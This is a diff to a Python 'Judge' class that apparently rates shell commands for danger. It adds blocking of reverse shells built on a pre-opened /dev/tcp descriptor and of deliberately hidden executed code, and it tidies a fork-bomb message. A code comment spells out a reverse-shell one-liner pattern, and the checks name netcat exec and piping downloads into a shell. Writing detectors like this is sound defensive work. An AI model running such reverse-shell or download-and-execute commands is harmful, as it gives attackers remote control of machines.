@@ -181,9 +181,8 @@ class Judge(Memory, CodeJudge):
             if exc.partial is None:
                 return
             parsed = exc.partial  # what the grammar could read is judged too
-        for name in parsed.fork_bombs:
-            self.verdict.raise_to(RiskLevel.CRITICAL, f"fork bomb (the function {name} "
-                                  "spawns copies of itself)", block=True)
+        for what in parsed.fork_bombs:
+            self.verdict.raise_to(RiskLevel.CRITICAL, f"fork bomb ({what})", block=True)
         for command in parsed.commands:
             self.command(command, ctx, depth)
 
@@ -333,6 +332,11 @@ class Judge(Memory, CodeJudge):
                 r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects):
             self.verdict.raise_to(RiskLevel.CRITICAL, f"connects {program} to another machine "
                                   "(a reverse shell)", block=True)
+        if command is not None and program in SHELL_OR_CODE and self.network_fd and any(
+                r.op in ("<&", ">&") and r.target.isdigit() and int(r.target) > 2
+                for r in command.redirects):  # `exec 3<>/dev/tcp/H/P; sh <&3 >&3`
+            self.verdict.raise_to(RiskLevel.CRITICAL, f"connects {program} to a network "
+                                  "connection opened before it (a reverse shell)", block=True)
         if program in NETCATS and netcat_exec(argv):
             self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} hands a shell or program to "
                                   "the network", block=True)
@@ -557,6 +561,10 @@ class Judge(Memory, CodeJudge):
             else:
                 self.verdict.raise_to(RiskLevel.CRITICAL, f"pipes a download straight into "
                                       f"{'a shell' if as_script else label}", block=True)
+            return
+        if source.hidden:
+            self.verdict.raise_to(RiskLevel.CRITICAL, f"{label} runs {source.what}: what runs "
+                                  "is hidden on purpose", block=True)
             return
         if source.text is not None:
             if as_script:
